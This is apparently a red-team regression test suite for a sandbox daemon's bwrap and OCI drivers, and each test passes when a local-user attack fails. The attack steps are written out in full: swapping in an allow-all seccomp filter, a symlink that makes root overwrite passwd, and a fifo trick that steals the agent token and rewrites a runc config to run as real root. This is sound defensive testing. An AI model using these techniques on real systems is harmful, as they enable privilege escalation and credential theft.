// Red team (issue 17): the drivers' own state dirs. The daemon builds its drivers without a
// stateDir (daemon/host.ts: createDriver(name, { bwrap: { ids }, oci: { ids } })), so the bwrap
// driver keeps the seccomp program and identity files in <tmp>/palisade-sandbox-0 and the OCI driver
// keeps its bundles (config.json with the command's environment, the agent token included) in
// <tmp>/palisade-oci-0: predictable names in the world-writable /tmp, used by root without a check of
// who owns them, and followed when they are links.
//
// Each test plays a local host user (nobody) who made that directory before the daemon first
// needed it (after a reboot /tmp is empty). TMPDIR points the drivers at a private sticky 1777
// directory standing in for /tmp, so nothing here touches the real /tmp/palisade-* that other
// runs on this machine share. Each test passes when the attack fails.
import { execFile, spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { chmod, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import path from "node:path";
import { promisify } from "node:util";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { BwrapDriver } from "../../../sandbox-host/src/sandbox/bwrap.js";
import { OciDriver } from "../../../sandbox-host/src/sandbox/oci.js";
import { runIn, specFor, workspaces } from "../sandbox/helpers.js";

const exec = promisify(execFile);
const NOBODY = 65534;
const isRoot = process.getuid?.() === 0;
const RUNC = ["/usr/sbin/runc", "/usr/bin/runc"].find((p) => existsSync(p));

/** A shell script run as a local unprivileged host user. */
const asLocalUser = (script: string) =>
  exec("/usr/bin/setpriv", [`--reuid=${NOBODY}`, `--regid=${NOBODY}`, "--clear-groups", "--", "/bin/sh", "-c", script], {
    env: { PATH: "/usr/bin:/bin" },
  }).then((o) => o.stdout);

let fakeTmp: string;
let savedTmp: string | undefined;
const cleanup: string[] = [];

beforeEach(async () => {
  fakeTmp = await mkdtemp("/var/tmp/r17-tmp-");
  await chmod(fakeTmp, 0o1777);
  savedTmp = process.env.TMPDIR;
  process.env.TMPDIR = fakeTmp;
});
afterEach(async () => {
  if (savedTmp === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = savedTmp;
  for (const p of [fakeTmp, ...cleanup.splice(0)]) await rm(p, { recursive: true, force: true }).catch(() => undefined);
});

describe.skipIf(!isRoot)("red team: the drivers' state dirs below a world-writable /tmp", { timeout: 60_000 }, () => {
  it("bwrap: a local user who created <tmp>/palisade-sandbox-0 first swaps the seccomp program of every sandbox", async () => {
    const stateDir = path.join(fakeTmp, "palisade-sandbox-0");
    await asLocalUser(`mkdir -m 0777 ${stateDir}`);
    // The driver as the daemon builds it: no stateDir given.
    const driver = new BwrapDriver();
    expect((await driver.available()).ok).toBe(true);
    // One BPF instruction: RET SECCOMP_RET_ALLOW. The directory is the local user's, so rename() over root's file works.
    await asLocalUser(`printf '\\006\\000\\000\\000\\000\\000\\377\\177' > ${stateDir}/allow && mv -f ${stateDir}/allow ${stateDir}/seccomp.bpf`);
    const ws = await workspaces();
    cleanup.push(ws.base);
    const r = await runIn(
      driver,
      specFor(await ws.make("agent-a"), [
        "/usr/bin/perl",
        "-e",
        `sub sc { my ($n, @c) = @_; syscall($n, @c) }
         print "vsock ", (socket(my $s, 40, 1, 0) ? "ok" : $!+0), "\\n";
         my $p = "\\0" x 120; my $r = sc(425, 4, $p); print "io_uring ", ($r >= 0 ? "ok" : $!+0), "\\n";
         $r = sc(250, 0, -3, 0); print "keyctl ", ($r >= 0 ? "ok" : $!+0), "\\n";`,
      ]),
    );
    // No connection is made: creating the AF_VSOCK socket is the proof that the family is open.
    expect(r.stdout).toContain("vsock 97");
    expect(r.stdout).toContain("io_uring 1");
    expect(r.stdout).toContain("keyctl 1");
  });

  it("bwrap: a symlink at <tmp>/palisade-sandbox-0 makes the root daemon replace passwd and group in a directory of the attacker's choice", async () => {
    // Stands in for /etc: a root-owned directory the local user may not write.
    const victim = await mkdtemp("/var/tmp/r17-victim-etc-");
    cleanup.push(victim);
    await chmod(victim, 0o755);
    const original = "root:x:0:0:root:/root:/bin/bash\n";
    await writeFile(path.join(victim, "passwd"), original, { mode: 0o644 });
    await asLocalUser(`ln -s ${victim} ${path.join(fakeTmp, "palisade-sandbox-0")}`);
    const driver = new BwrapDriver();
    await driver.available();
    expect(await readFile(path.join(victim, "passwd"), "utf8")).toBe(original);
    expect(existsSync(path.join(victim, "seccomp.bpf"))).toBe(false);
  });

  it.skipIf(!RUNC)(
    "oci: a local user who created <tmp>/palisade-oci-0 first reads the sandbox's environment (agent token) and has runc run a config of their own as real root",
    async () => {
      const stateDir = path.join(fakeTmp, "palisade-oci-0");
      await asLocalUser(`mkdir -m 0777 ${stateDir}`);
      const driver = new OciDriver({ runtimePath: RUNC });
      expect((await driver.available()).ok).toBe(true);
      // The sandbox id is the edge's; a watcher on the attacker's own directory sees each bundle
      // appear (and the daemon's probe ids are probe-<pid>-runc|crun). Here it is known ahead.
      const id = `r17oci-${process.pid}`;
      const bundle = path.join(stateDir, id);
      await asLocalUser(`mkdir -m 0777 ${bundle} ${bundle}/rootfs && mkfifo -m 0666 ${bundle}/config.json`);
      const proof = await mkdtemp("/var/tmp/r17-proof-");
      cleanup.push(proof);
      await chmod(proof, 0o777);
      const token = `pal_agent_r17secret${process.pid}`;
      // The local user's program: read what the daemon writes into the fifo, then hand runc its own config.
      const attacker = `
        const fs = require("fs");
        const cfg = JSON.parse(fs.readFileSync(${JSON.stringify(`${bundle}/config.json`)}, "utf8"));
        fs.writeFileSync(${JSON.stringify(`${proof}/stolen-env`)}, cfg.process.env.join("\\n"));
        cfg.linux.namespaces = cfg.linux.namespaces.filter((n) => n.type !== "user");
        delete cfg.linux.uidMappings; delete cfg.linux.gidMappings;
        cfg.process.user = { uid: 0, gid: 0 };
        cfg.process.args = ["/bin/sh", "-c", "id > /proof/ran-as; cat /proc/self/uid_map >> /proof/ran-as"];
        cfg.mounts.push({ destination: "/proof", type: "bind", source: ${JSON.stringify(proof)}, options: ["rbind", "rw"] });
        fs.writeFileSync(${JSON.stringify(`${bundle}/config.json`)}, JSON.stringify(cfg));
      `;
      const child = spawn("/usr/bin/setpriv", [`--reuid=${NOBODY}`, `--regid=${NOBODY}`, "--clear-groups", "--", "/usr/bin/node", "-e", attacker], {
        env: { PATH: "/usr/bin:/bin" },
        stdio: "ignore",
      });
      const attackerDone = new Promise<number | null>((r) => child.once("exit", r));
      const ws = await workspaces();
      cleanup.push(ws.base);
      const started = runIn(
        driver,
        specFor(await ws.make("agent-a"), ["/bin/true"], { id, env: { OPENAI_API_KEY: token }, timeoutMs: 20_000 }),
      ).catch((e: unknown) => e);
      const timer = setTimeout(() => child.kill("SIGKILL"), 20_000);
      await Promise.all([started, attackerDone]);
      clearTimeout(timer);
      const stolen = await readFile(path.join(proof, "stolen-env"), "utf8").catch(() => "");
      const ranAs = await readFile(path.join(proof, "ran-as"), "utf8").catch(() => "");
      expect(stolen, "the local user read the sandbox's environment").not.toContain(token);
      expect(ranAs, "runc ran the local user's config").toBe("");
    },
  );
});
